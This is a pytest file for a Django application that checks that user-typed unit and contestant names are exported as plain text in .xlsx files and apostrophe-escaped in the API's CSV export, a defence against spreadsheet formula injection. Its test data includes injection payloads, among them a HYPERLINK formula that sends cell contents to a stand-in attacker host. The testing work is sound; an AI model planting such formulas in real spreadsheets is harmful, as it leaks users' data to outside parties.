"""Formula injection (issue 12): text typed by users comes back as text in every export — a typed
string cell in .xlsx, an apostrophe before = + - @ tab CR in CSV (the API's bulk export)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from thidua.contests import services as contest_services
from thidua.contests.models import Option
from thidua.contests.testing import make_contest, make_round
from thidua.org.models import Unit, UnitKind

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")', "+SUM(1,2)", "-2+3",
           "@SUM(1)", "\tTab", "\rVề đầu dòng"]


@pytest.fixture
def hostile_units(world):
    for i, name in enumerate(HOSTILE):
        Unit.objects.create(code=f"P1-X1-F{i}", name=name, kind=UnitKind.COMMUNE,
                            category=world.categories["xa"], parent=world.units["X1"])


def _cells(content: bytes) -> dict[str, tuple[str, str]]:
    """value -> (data type, value) of every text cell of the first sheet."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return {c.value: (c.data_type, c.value) for row in sheet.iter_rows() for c in row
            if isinstance(c.value, str)}


def test_unit_names_come_back_as_text_in_the_xlsx_export(hostile_units, world, login):
    response = login(world.users["alice_owner"]).get(reverse("org:export_units"))
    cells = _cells(response.content)
    for name in HOSTILE:
        assert cells[name][0] == "s", f"{name!r} written as {cells[name][0]!r}"


def test_the_api_csv_export_escapes_formula_starts(hostile_units, world, login):
    response = login(world.users["alice_owner"]).get("/api/v1/export/units.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = {row["code"]: row["name"] for row in csv.DictReader(io.StringIO(text))}
    for i, name in enumerate(HOSTILE):
        assert names[f"P1-X1-F{i}"] == "'" + name
    assert names["P1-X1"] == "Xã Lũng Cú"  # ordinary text untouched


def test_a_contestants_typed_name_is_text_in_the_ranking_export(world, login):
    contest = make_contest(world.units["P1"], code="truc-tuyen-cchc", per_attempt=4)
    round_ = make_round(contest)
    person = world.people["p_x1"]
    participant = contest.participants.create(kind="public", full_name=HOSTILE[0],
                                              unit=person.unit)
    attempt = contest_services.attempt_start(participant=participant, round_=round_)
    answers = {str(qid): [Option.objects.get(question_id=qid, correct=True).pk]
               for qid, _ in attempt.questions}
    token = contest_services.read_token(contest_services.attempt_token(attempt))
    contest_services.submission_record(token=token, client_token="tok-000001", answers=answers,
                                       prediction=1,
                                       now=attempt.started_at + timedelta(seconds=60))
    response = login(world.users["alice_owner"]).get(reverse("contests:round", args=[round_.pk]),
                                                     {"xuat": "xlsx"})
    assert _cells(response.content)[HOSTILE[0]][0] == "s"
